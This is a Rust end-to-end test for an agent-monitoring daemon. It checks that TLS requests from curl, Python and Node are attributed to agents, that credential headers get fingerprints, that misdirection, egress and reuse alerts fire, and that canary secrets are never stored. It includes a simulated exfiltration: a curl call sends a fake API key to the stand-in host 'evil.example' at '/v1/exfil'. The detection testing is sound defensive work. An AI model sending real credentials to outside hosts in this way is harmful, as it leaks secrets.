//! Credentials at the point of use: real TLS clients (curl over HTTP/1.1 and HTTP/2,
//! Python's `http.client` and raw `ssl` writes, Node's `https`) in registered agents'
//! cgroups send requests to a real loopback TLS server; the daemon reports each request
//! with its agent, host and path (query values dropped), fingerprints the credential
//! headers like environment credentials, and never keeps the secret.
#![expect(
    unused_crate_dependencies,
    reason = "this package's targets share one dependency list and each test file uses a few of it"
)]
#![expect(
    clippy::expect_used,
    reason = "the server and file helpers are test steps: a failed step is a failed test"
)]
use std::{
    fmt::Write as _,
    io::{BufRead, BufReader},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::mpsc,
    time::{Duration, Instant},
};

use agentid_tests::{
    TestCgroup,
    daemon::{Daemon, registration},
};
use serde_json::Value;

/// Every client gives up after this: a stuck handshake fails the test, never hangs it.
const CLIENT_TIMEOUT_S: &str = "10";

/// A throwaway self-signed certificate (names `api.openai.com`, `evil.example`,
/// `127.0.0.1`) and a Node TLS server speaking HTTP/1.1 and HTTP/2 on loopback; the server
/// is killed and the directory removed on drop, whatever the test's outcome.
struct TlsServer {
    child: Child,
    dir: PathBuf,
    port: u16,
}

const SERVER_JS: &str = r"
const http2 = require('http2');
const fs = require('fs');
const dir = process.argv[2];
const srv = http2.createSecureServer({
  key: fs.readFileSync(dir + '/key.pem'),
  cert: fs.readFileSync(dir + '/cert.pem'),
  allowHTTP1: true,
}, (req, res) => { req.resume(); req.on('end', () => res.end('ok\n')); });
srv.on('secureConnection', (s) => s.on('error', () => {}));
srv.listen(0, '127.0.0.1', () => console.log(srv.address().port));
";

impl TlsServer {
    fn start(test: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("agentid-tls-{test}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("server dir");
        let out = Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
            ])
            .args(["-subj", "/CN=api.openai.com"])
            .args([
                "-addext",
                "subjectAltName=DNS:api.openai.com,DNS:evil.example,IP:127.0.0.1",
            ])
            .arg("-keyout")
            .arg(dir.join("key.pem"))
            .arg("-out")
            .arg(dir.join("cert.pem"))
            .output()
            .expect("openssl req");
        assert!(
            out.status.success(),
            "openssl: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::write(dir.join("server.js"), SERVER_JS).expect("server.js");
        let mut child = Command::new("node")
            .arg(dir.join("server.js"))
            .arg(&dir)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("node server");
        let stdout = child.stdout.take().expect("stdout");
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(stdout).read_line(&mut line);
            let _ = tx.send(line);
        });
        let mut server = Self {
            child,
            dir,
            port: 0,
        };
        let line = rx
            .recv_timeout(Duration::from_secs(30))
            .expect("the TLS server never said its port");
        server.port = line.trim().parse().expect("port");
        server
    }

    fn cert(&self) -> PathBuf {
        self.dir.join("cert.pem")
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.port)
    }

    fn resolve(&self, host: &str) -> String {
        format!("{host}:{}:127.0.0.1", self.port)
    }
}

impl Drop for TlsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Runs a client to completion within [`CLIENT_TIMEOUT_S`] (enforced by `timeout`),
/// asserting it succeeded.
fn run(what: &str, cmd: &mut Command) {
    let out = cmd
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    assert!(
        out.status.success(),
        "{what}: {}\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
}

fn curl(cg: &TestCgroup, server: &TlsServer, http: &str, host: &str, path: &str, header: &str) {
    run(
        &format!("curl {http} {path}"),
        cg.command("timeout")
            .args([CLIENT_TIMEOUT_S, "curl", "-sS", "-o", "/dev/null", http])
            .arg("--cacert")
            .arg(server.cert())
            .args(["--resolve", &server.resolve(host), "-H", header])
            .arg(server.url(host, path)),
    );
}

fn python(cg: &TestCgroup, server: &TlsServer, script: &str, args: &[&str]) {
    run(
        "python3",
        cg.command("timeout")
            .args([CLIENT_TIMEOUT_S, "/usr/bin/python3", "-c", script])
            .arg(server.cert())
            .arg(server.port.to_string())
            .args(args),
    );
}

/// `http.client` (`SSL_write_ex`), lowercase header name, `Host` set by the caller.
const PY_HTTP_CLIENT: &str = r"
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
c = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[2]), context=ctx, timeout=10)
c.request('GET', sys.argv[3], headers={'Host': 'api.openai.com', 'authorization': 'Bearer ' + sys.argv[4]})
c.getresponse().read()
";

/// Raw TLS writes: the header split across two writes, then a non-HTTP payload.
const PY_SPLIT: &str = r"
import socket, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[1])
s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', int(sys.argv[2])), timeout=10), server_hostname='127.0.0.1')
s.sendall(b'GET ' + sys.argv[3].encode() + b' HTTP/1.1\r\nHost: api.openai.com\r\nAuthori')
s.sendall(b'zation: Bearer ' + sys.argv[4].encode() + b'\r\nConnection: close\r\n\r\n')
while s.recv(4096): pass
t = ctx.wrap_socket(socket.create_connection(('127.0.0.1', int(sys.argv[2])), timeout=10), server_hostname='127.0.0.1')
t.sendall(b'\x16not http at all ' + sys.argv[4].encode() + b'\r\n\r\n')
t.close()
";

/// Node's `https` (`SSL_write` in the node executable's own OpenSSL).
const NODE_HTTPS: &str = r"
const https = require('https'); const fs = require('fs');
const [cert, port, path, key] = process.argv.slice(1);
https.get({host: '127.0.0.1', port: +port, path, ca: fs.readFileSync(cert),
  headers: {host: 'api.openai.com', 'X-Api-Key': key}}, (res) => { res.resume(); res.on('end', () => process.exit(0)); })
  .on('error', (e) => { console.error(e); process.exit(1); });
";

fn node(cg: &TestCgroup, server: &TlsServer, args: &[&str]) {
    run(
        "node https",
        cg.command("timeout")
            .args([CLIENT_TIMEOUT_S, "node", "-e", NODE_HTTPS])
            .arg(server.cert())
            .arg(server.port.to_string())
            .args(args),
    );
}

fn by_path<'a>(events: &'a [Value], path: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["path"] == path).collect()
}

/// Every file under `dir` (recursively), with its bytes.
fn files_under(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(p) = stack.pop() {
        for entry in std::fs::read_dir(&p).expect("read dir").flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                out.push((path.display().to_string(), bytes));
            }
        }
    }
    out
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one end-to-end scenario, read top to bottom"
)]
fn requests_over_tls_are_attributed_fingerprinted_and_never_kept() {
    let (alpha, beta_cg, unwatched) = (
        TestCgroup::new("tls-a"),
        TestCgroup::new("tls-b"),
        TestCgroup::new("tls-unwatched"),
    );
    let dir = Daemon::dir("tls");
    std::fs::write(dir.join("agents/a.toml"), registration("alpha", &alpha)).expect("reg");
    // Beta's policy names its API host; its connections (loopback, by `--resolve`) are
    // allowed by address, so only a request's Host can fall outside.
    let beta_reg = format!(
        "{}[agent.policy]\negress = [\"127.0.0.1:*\", \"api.openai.com:*\"]\n",
        registration("beta", &beta_cg)
    );
    std::fs::write(dir.join("agents/b.toml"), beta_reg).expect("reg");
    let mut config = std::fs::read_to_string(dir.join("agentid.toml")).expect("config");
    let _ = write!(
        config,
        "[[sinks]]\ntype = \"file\"\npath = \"{}/sink.jsonl\"\nformat = \"ocsf\"\ninclude_activity = true\n",
        dir.display()
    );
    std::fs::write(dir.join("agentid.toml"), config).expect("config");
    let server = TlsServer::start("e2e");
    let Some(daemon) = Daemon::start(&dir) else {
        return;
    };
    let beta = "spiffe://test.example/agent/beta";

    let nonce = format!(
        "{:x}{:x}",
        std::process::id(),
        Instant::now().elapsed().as_nanos()
    );
    // One key per client (so each sighting is told apart) and one shared with alpha's env.
    let shared = format!("sk-proj-CANARYshared{nonce}Q7x9Lm2Np4Rt6Vw8Yz");
    let h2_key = format!("sk-proj-CANARYh2{nonce}Q7x9Lm2Np4Rt6Vw8YzAb");
    let py_key = format!("sk-proj-CANARYpy{nonce}Q7x9Lm2Np4Rt6Vw8YzAb");
    let split_key = format!("sk-proj-CANARYsplit{nonce}Q7x9Lm2Np4Rt6Vw8Yz");
    let node_key = format!("sk-proj-CANARYnode{nonce}Q7x9Lm2Np4Rt6Vw8YzAbCd");
    let misdirected_key = format!("sk-proj-CANARYmisdirected{nonce}Q7x9Lm2Np4Rt6");
    let unwatched_key = format!("sk-proj-CANARYunwatched{nonce}Q7x9Lm2Np4Rt6");
    // In a token format, so the redaction of curl's own command line (outside this test's
    // subject) removes it there; the request event must drop it by dropping query values.
    let query_secret = format!("sk-proj-CANARYquery{nonce}Q7x9Lm2Np4Rt6Vw8Yz");
    let secrets = [
        &shared,
        &h2_key,
        &py_key,
        &split_key,
        &node_key,
        &unwatched_key,
        &query_secret,
        &misdirected_key,
    ];

    // Agents' cgroups get their file-open (and TLS) watch once an event of theirs is seen.
    for cg in [&alpha, &beta_cg] {
        cg.echo("hello");
    }
    daemon.cli_until(&["events", "--agent", beta, "--kind", "exec"], |v| {
        v.as_array().is_some_and(|e| !e.is_empty())
    });
    // Not registered: its requests are never reported.
    curl(
        &unwatched,
        &server,
        "--http1.1",
        "api.openai.com",
        "/v1/unwatched",
        &format!("Authorization: Bearer {unwatched_key}"),
    );

    let st = alpha
        .command("/bin/true")
        .env_clear()
        .env("OPENAI_API_KEY", &shared)
        .status()
        .expect("alpha");
    assert!(st.success());
    let curl1 = format!("/v1/curl1?key={query_secret}&beta=true");
    curl(
        &beta_cg,
        &server,
        "--http1.1",
        "api.openai.com",
        &curl1,
        &format!("Authorization: Bearer {shared}"),
    );
    curl(
        &beta_cg,
        &server,
        "--http2",
        "api.openai.com",
        "/v1/curl2",
        &format!("x-api-key: {h2_key}"),
    );
    python(&beta_cg, &server, PY_HTTP_CLIENT, &["/v1/py", &py_key]);
    python(&beta_cg, &server, PY_SPLIT, &["/v1/split", &split_key]);
    node(&beta_cg, &server, &["/v1/node", &node_key]);
    // An OpenAI key to a host outside OpenAI's domains.
    curl(
        &beta_cg,
        &server,
        "--http1.1",
        "evil.example",
        "/v1/exfil",
        &format!("Authorization: Bearer {misdirected_key}"),
    );

    let expected = [
        "/v1/curl1?key=&beta=",
        "/v1/curl2",
        "/v1/py",
        "/v1/split",
        "/v1/node",
        "/v1/exfil",
    ];
    let events = daemon.cli_until(&["events", "--kind", "request", "--agent", beta], |v| {
        v.as_array().is_some_and(|e| {
            expected.iter().all(|p| e.iter().any(|x| x["path"] == *p))
                && e.iter()
                    .any(|x| x["path"] == "/v1/split" && x["continued"] == true)
        })
    });
    let events = events.as_array().expect("events").clone();
    for path in expected {
        let mine = by_path(&events, path);
        for e in &mine {
            let host = if path == "/v1/exfil" {
                "evil.example"
            } else {
                "api.openai.com"
            };
            assert_eq!(e["host"], host, "{e:#}");
            assert_eq!(e["agent"]["id"], beta, "{e:#}");
        }
        let creds: Vec<&Value> = mine
            .iter()
            .flat_map(|e| e["credential_headers"].as_array().into_iter().flatten())
            .collect();
        assert!(
            !creds.is_empty(),
            "{path}: no credential header found: {mine:#?}"
        );
    }
    assert_eq!(by_path(&events, "/v1/curl2")[0]["http_version"], "2");
    assert_eq!(by_path(&events, "/v1/curl2")[0]["tls_fn"], "nghttp2");
    assert_eq!(by_path(&events, "/v1/py")[0]["tls_fn"], "ssl_write_ex");
    assert_eq!(
        by_path(&events, "/v1/curl1?key=&beta=")[0]["tls_fn"],
        "ssl_write"
    );
    // Only HTTP requests: the non-HTTP write and the unwatched cgroup gave nothing.
    for e in &events {
        let path = e["path"].as_str().unwrap_or_default();
        assert!(expected.contains(&path), "unexpected request event: {e:#}");
    }
    let all = daemon.cli(&["events", "--kind", "request"]);
    assert!(
        !all.to_string().contains("/v1/unwatched"),
        "an unregistered cgroup's request was reported: {all:#}"
    );

    // Only the key sent to evil.example is misdirected.
    let misdirected = daemon.cli_until(&["alerts", "--rule", "credential-misdirected"], |v| {
        v.as_array().is_some_and(|a| !a.is_empty())
    });
    let misdirected = misdirected.as_array().expect("alerts");
    assert_eq!(misdirected.len(), 1, "{misdirected:#?}");
    assert!(
        misdirected[0].to_string().contains("evil.example"),
        "{misdirected:#?}"
    );

    // The request for evil.example went over an allowed connection, but its Host is not
    // in beta's policy: exactly one egress violation, naming it; api.openai.com's none.
    let egress = daemon.cli_until(&["alerts", "--rule", "egress-violation"], |v| {
        v.as_array().is_some_and(|a| !a.is_empty())
    });
    let egress = egress.as_array().expect("alerts");
    assert_eq!(egress.len(), 1, "{egress:#?}");
    assert_eq!(
        egress[0]["title"],
        format!(
            "beta sent a request for https://evil.example:{} outside its egress allowlist",
            server.port
        ),
        "{egress:#?}"
    );

    // alpha's env key in beta's header: one credential, one reuse naming both.
    let alerts = daemon.cli_until(&["alerts", "--rule", "credential-reuse"], |v| {
        v.as_array().is_some_and(|a| !a.is_empty())
    });
    let alerts = alerts.as_array().expect("alerts");
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let mut agents: Vec<&str> = alerts[0]["agents"]
        .as_array()
        .expect("agents")
        .iter()
        .filter_map(|x| x["id"].as_str())
        .collect();
    agents.sort_unstable();
    assert_eq!(agents, ["spiffe://test.example/agent/alpha", beta]);
    let creds = daemon.cli_until(&["credentials"], |v| {
        v.to_string().contains("tls:api.openai.com authorization")
            && v.to_string().contains("tls:api.openai.com x-api-key")
    });
    let seen = creds.to_string();
    assert!(seen.contains("env:OPENAI_API_KEY"), "{creds:#}");

    // The SIEM sink got the requests as OCSF HTTP Activity.
    let sink = dir.join("sink.jsonl");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::read_to_string(&sink)
        .unwrap_or_default()
        .contains("\"class_uid\":4002")
    {
        assert!(
            Instant::now() < deadline,
            "the sink never got an HTTP Activity"
        );
        std::thread::sleep(Duration::from_millis(100));
    }

    // Canaries: in no answer, file or log.
    let mut haystack = vec![
        (
            "events".to_owned(),
            daemon.cli(&["events"]).to_string().into_bytes(),
        ),
        (
            "alerts".to_owned(),
            daemon.cli(&["alerts"]).to_string().into_bytes(),
        ),
        ("credentials".to_owned(), creds.to_string().into_bytes()),
        (
            "status".to_owned(),
            daemon.cli(&["status"]).to_string().into_bytes(),
        ),
    ];
    let log = daemon.log.clone();
    assert!(daemon.stop().success());
    haystack.push((
        "daemon log".into(),
        log.lock().expect("log").clone().into_bytes(),
    ));
    haystack.extend(files_under(&dir));
    assert!(haystack.iter().any(|(n, _)| n.ends_with("agentid.db")));
    assert!(haystack.iter().any(|(n, _)| n.ends_with("audit.log")));
    for secret in secrets {
        for (name, bytes) in &haystack {
            let found = bytes.windows(secret.len()).any(|w| w == secret.as_bytes());
            assert!(
                !found,
                "a canary secret leaked into {name}: {}",
                &secret[..20]
            );
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}
